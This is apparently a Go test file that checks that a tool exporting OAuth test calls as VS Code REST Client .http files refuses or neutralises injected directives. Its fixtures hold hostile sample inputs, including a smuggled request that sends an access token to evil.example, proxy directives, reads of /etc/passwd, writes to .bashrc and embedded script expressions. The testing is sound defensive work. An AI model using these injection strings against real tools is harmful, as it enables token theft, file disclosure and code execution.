package copyas

import (
	"encoding/json"
	"errors"
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"tokendesk/oauth"
)

// readRESTClient reads an .http file as the REST Client of VS Code does; it
// fails on what that takes for anything but one request without variables.
func readRESTClient(text string) (r request, ok bool) {
	var lines []string
	for _, line := range strings.Split(text, "\n") {
		if regexp.MustCompile(`^#{3,}|^\s*(#|//)|^\s*@[^\s=]+\s*=`).MatchString(line) {
			return r, false
		}
		lines = append(lines, line)
	}
	if regexp.MustCompile(`\{\{(.+?)\}\}`).MatchString(text) {
		return r, false
	}
	r.method, r.url, _ = strings.Cut(lines[0], " ")
	for lines = lines[1:]; len(lines) > 0 && strings.TrimSpace(lines[0]) != ""; lines = lines[1:] {
		if regexp.MustCompile(`^\s*[&?]`).MatchString(lines[0]) {
			return r, false
		}
		name, value, _ := strings.Cut(lines[0], ":")
		r.headers = append(r.headers, header{strings.TrimSpace(name), strings.TrimSpace(value)})
	}
	if len(lines) > 0 {
		for _, line := range lines[1:] {
			if regexp.MustCompile(`^<(@\w*)?\s+`).MatchString(line) {
				return r, false
			}
		}
		r.body = strings.Join(lines[1:], "\n")
	}
	return r, true
}

// sameBody compares what was sent with what was meant.
func sameBody(contentType, want, got string) bool {
	var a, b any
	switch {
	case strings.HasPrefix(contentType, "application/x-www-form-urlencoded"):
		return sameForm(want, got)
	case json.Unmarshal([]byte(want), &a) == nil:
		if json.Unmarshal([]byte(got), &b) != nil {
			return false
		}
		x, _ := json.Marshal(a)
		y, _ := json.Marshal(b)
		return string(x) == string(y)
	}
	return want == got
}

// hostileCall draws a test call that an author of app files may write.
func hostileCall() *rapid.Generator[oauth.TestCall] {
	pieces := rapid.StringOfN(rapid.OneOf(rapid.RuneFrom([]rune("{}#<>@/?=:%$!'\"\\ \n&;-.aGET1\u202e\u2028"))), 0, 12, -1)
	text := rapid.Custom(func(t *rapid.T) string {
		return strings.Join(rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(directiveTexts), pieces), 0, 3).Draw(t, "parts"), rapid.SampledFrom([]string{"", "\n", " "}).Draw(t, "between"))
	})
	return rapid.Custom(func(t *rapid.T) oauth.TestCall {
		body := text.Draw(t, "body")
		if rapid.Bool().Draw(t, "JSON") {
			raw, _ := json.MarshalIndent(map[string]string{"q": body, body: "q"}, "", rapid.SampledFrom([]string{"", " ", "\t"}).Draw(t, "indent"))
			body = string(raw)
		}
		return oauth.TestCall{
			Method: rapid.SampledFrom([]string{"POST", "PUT", "PATCH"}).Draw(t, "method"),
			URL:    "/" + strings.NewReplacer("\n", "", "#", "%23", "\u2028", "").Replace(text.Draw(t, "url")),
			Headers: map[string]string{
				rapid.SampledFrom([]string{"X-A", "###", "#", "x", "...x", "X-ClientCert", "Cookie", "X-Request-Type", "Accept", "@", "GET", "X_Y"}).Draw(t, "name"): strings.ReplaceAll(text.Draw(t, "value"), "\n", ""),
				"Content-Type": rapid.SampledFrom([]string{"application/json", "text/plain", "application/x-www-form-urlencoded", "application/graphql", "application/xml", "multipart/mixed; boundary=x", "Application/X-WWW-Form-Urlencoded; charset=utf-8", "application/x-ndjson"}).Draw(t, "type"),
			},
			Body: body,
		}
	})
}

// directiveTexts are what programs that read .http files look for.
var directiveTexts = []string{
	"{{require('fs').writeFileSync('RAN','')}}", "{{$processEnv HOME}}", "{{\nrequire('fs').writeFileSync('RAN','')\n}}", "{{@request\nrequire('fs').writeFileSync('RAN','')\n}}", `\{\{x\}\}`,
	"###", "### x", " ###", "# @proxy http://127.0.0.2:9", "// @proxy http://127.0.0.2:9", "# @ref x", "# @import ./x.http", "#a", "//a", "/*", "*/",
	"< ./secret", "<@ ./secret", "<@utf8 ./secret", "> ./RAN", ">> ./RAN", ">>! ./RAN", "<> ./RAN", "< {%", "> {% require('fs').writeFileSync('RAN','') %}", "%}",
	"@x = y", "@x=y", "?? status == 200", "GET http://127.0.0.2:9/x", "WS ws://127.0.0.2:9", "GRPC x", "http://127.0.0.2:9/", "HTTP/1.1 200 OK", "query {", "query Q { me }", "mutation", "query=a", "fragment F on X {", "gql < ./secret",
	"run ./x.http", "import ./x.http", "a", "a b", "a=b&c=d", "plain text.", "{", "}", "}}", "true", "<xml/>", "<?xml version=\"1.0\"?>\n<a b=\"c\">\n  <!-- d -->\n</a>", "--x", "OAuth2 x", "Basic a:b", "AWS a b", ", ",
}

// What is written is the call as the REST Client reads it, or it was refused.
func TestRESTClientReadsTheCall(t *testing.T) {
	written := 0
	rapid.Check(t, func(t *rapid.T) {
		app := oauth.App{ID: "a", Test: hostileCall().Draw(t, "call")}
		app.Test.URL = "https://api.example.test" + app.Test.URL
		ts := oauth.TokenSet{AccessToken: hostileToken().Draw(t, "token")}
		text, err := Render(HTTP, Item{App: app, Tokens: ts}, now, "")
		if err != nil {
			return
		}
		written++
		got, ok := readRESTClient(text)
		call := oauth.TestRequest(app, ts)
		if !ok || got.method != call.Method || !sameBody(strings.ToLower(call.Headers["Content-Type"]), call.Body, got.body) || len(got.headers) != len(call.Headers) {
			t.Fatalf("%q becomes %q", call, text)
		}
		for _, h := range got.headers {
			if h.value != strings.TrimSpace(call.Headers[h.name]) {
				t.Fatalf("%q becomes %q", call, text)
			}
		}
	})
	if written < 10 {
		t.Errorf("only %d calls were written", written)
	}
}

// A member of each kind of directive, each in each place: refused, or inert.
func TestHTTPRefusals(t *testing.T) {
	sound := func() oauth.TestCall {
		return oauth.TestCall{Method: "POST", URL: "https://api.example.test/", Headers: map[string]string{}, Body: "b"}
	}
	for name, change := range map[string]func(*oauth.TestCall){
		"request after a separator": func(c *oauth.TestCall) { c.Body = "b\n\n###\nGET http://evil.example/?t={access_token}\n" },
		"request":                   func(c *oauth.TestCall) { c.Body = "b\nGET http://evil.example/" },
		"socket":                    func(c *oauth.TestCall) { c.Body = "WS ws://evil.example/" },
		"address":                   func(c *oauth.TestCall) { c.Body = "http://evil.example/" },
		"answer":                    func(c *oauth.TestCall) { c.Body = "HTTP/1.1 200 OK\n\nx" },
		"proxy":                     func(c *oauth.TestCall) { c.Body = "x\n# @proxy http://evil.example" },
		"other comment":             func(c *oauth.TestCall) { c.Body = "x\n  // @proxy http://evil.example" },
		"variable":                  func(c *oauth.TestCall) { c.Body = "@token = x" },
		"file":                      func(c *oauth.TestCall) { c.Body = "< /etc/passwd" },
		"file with variables":       func(c *oauth.TestCall) { c.Body = "<@ /etc/passwd" },
		"script":                    func(c *oauth.TestCall) { c.Body = "x\n> {% client.log('x') %}" },
		"output":                    func(c *oauth.TestCall) { c.Body = "x\n>> ./.bashrc" },
		"earlier answer":            func(c *oauth.TestCall) { c.Body = "x\n<> ./x" },
		"check":                     func(c *oauth.TestCall) { c.Body = "?? status == 200" },
		"script block":              func(c *oauth.TestCall) { c.Body = "{{\nprocess.exit()\n}}" },
		"expression":                func(c *oauth.TestCall) { c.Body = "a {{process.exit()}}" },
		"escaped expression":        func(c *oauth.TestCall) { c.Body = `a \{\{x\}\}` },
		"GraphQL":                   func(c *oauth.TestCall) { c.Body = "query { me { id } }" },
		"blank line first":          func(c *oauth.TestCall) { c.Body = "\n\nx" },
		"multipart":                 func(c *oauth.TestCall) { c.Headers["Content-Type"], c.Body = "multipart/mixed; boundary=b", "--b--" },
		"method":                    func(c *oauth.TestCall) { c.Method = "GET http://evil.example/\n\n" },
		"separator as a header":     func(c *oauth.TestCall) { c.Headers["###"] = "GET" },
		"comment as a header":       func(c *oauth.TestCall) { c.Headers["#"] = "@proxy http://evil.example" },
		"spread as a header":        func(c *oauth.TestCall) { c.Headers["...x"] = "1" },
		"line end in a header name": func(c *oauth.TestCall) { c.Headers["X\nY"] = "1" },
		"line end in a header":      func(c *oauth.TestCall) { c.Headers["X"] = "1\r\nY: 2" },
		"expression in a header":    func(c *oauth.TestCall) { c.Headers["X"] = "{{process.exit()}}" },
		"expression of a token":     func(c *oauth.TestCall) { c.Headers["X"] = "{{access_token}}}" },
		"cookies":                   func(c *oauth.TestCall) { c.Headers["Cookie"] = "a=1; b=2" },
		"certificate":               func(c *oauth.TestCall) { c.Headers["X-ClientCert"] = "cert: ./x" },
		"GraphQL header":            func(c *oauth.TestCall) { c.Headers["X-Request-Type"] = "GraphQL" },
		"sign-in":                   func(c *oauth.TestCall) { c.Headers["authorization"] = "openid client {access_token}" },
		"signature":                 func(c *oauth.TestCall) { c.Headers["Authorization"] = "aws {access_token} x" },
		"name and password":         func(c *oauth.TestCall) { c.Headers["Authorization"] = "Basic {access_token}:x" },
	} {
		t.Run(name, func(t *testing.T) {
			call := sound()
			change(&call)
			text, err := Render(HTTP, Item{App: oauth.App{Test: call}, Tokens: oauth.TokenSet{AccessToken: "{T"}}, now, "")
			var e *oauth.Error
			if !errors.As(err, &e) || e.Advice == "" {
				t.Errorf("written: %q, %v", text, err)
			}
		})
	}
	if _, err := Render(HTTP, Item{App: oauth.App{Test: sound()}, Tokens: oauth.TokenSet{AccessToken: "T{{id}}"}}, now, ""); err == nil {
		t.Error("an expression in the token is written")
	}
	if _, err := Render(HTTP, Item{App: oauth.App{Test: sound()}, Tokens: oauth.TokenSet{AccessToken: "T"}}, now, ""); err != nil {
		t.Errorf("a sound call: %v", err)
	}
}

// What has another spelling of the same meaning is written in it.
func TestHTTPSpellsTheSame(t *testing.T) {
	for _, test := range []struct{ url, kind, body, wantURL, wantBody string }{
		{"/q?a={{x}}&b=é", "application/json", `{"query":"{me { id }}"}`, "/q?a=%7B%7Bx%7D%7D&b=%C3%A9", `{"query":"{me { id }}"}`},
		{"/", "application/json", "{\n  \"a\": \"{{{x}}} \u202e\"\n}", "/", `{"a":"{\u007b{x}}} \u202e"}`},
		{"/", "application/x-www-form-urlencoded", "@a={{x}}&b=# c", "/", "%40a=%7B%7Bx%7D%7D&b=%23%20c"},
		{"/", "application/x-www-form-urlencoded", "query=x&y=%41+b", "/", "%71uery=x&y=%41+b"},
		{"/", "text/xml", "<?xml version=\"1.0\"?>\n<a>\n  <b/>\n</a>", "/", "<?xml version=\"1.0\"?>\n<a>\n  <b/>\n</a>"},
		{"/", "text/plain", "Hello there.\nAnd more: 1 < 2", "/", "Hello there.\nAnd more: 1 < 2"},
	} {
		app := oauth.App{Test: oauth.TestCall{Method: "POST", URL: "https://api.example.test" + test.url, Headers: map[string]string{"Content-Type": test.kind}, Body: test.body}}
		got, err := Render(HTTP, Item{App: app, Tokens: set}, now, "")
		want := "POST https://api.example.test" + test.wantURL + "\nAuthorization: Bearer T\nContent-Type: " + test.kind + "\n\n" + test.wantBody
		if err != nil || got != want {
			t.Errorf("\ngot  %s\nwant %s\nerr  %v", got, want, err)
		}
	}
}
